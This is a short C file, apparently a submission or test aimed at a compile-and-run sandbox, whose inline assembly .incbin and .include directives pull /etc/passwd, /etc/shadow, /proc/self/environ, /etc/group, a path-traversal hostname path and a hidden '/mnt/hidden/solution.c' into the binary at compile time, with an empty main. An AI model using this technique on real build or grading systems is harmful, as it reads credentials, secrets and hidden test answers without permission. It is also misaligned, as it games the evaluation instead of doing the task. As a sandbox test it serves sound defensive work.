/* The assembler embeds files of the machine. */
__asm__(".incbin \"/etc/passwd\"");
__asm__(".incbin \"/etc/shadow\"");
__asm__(".incbin \"/proc/self/environ\"");
__asm__(".incbin \"/mnt/hidden/solution.c\"");
__asm__(".incbin \"../../../../etc/hostname\"");
__asm__(".include \"/etc/group\"");

int main(void)
{
	return 0;
}
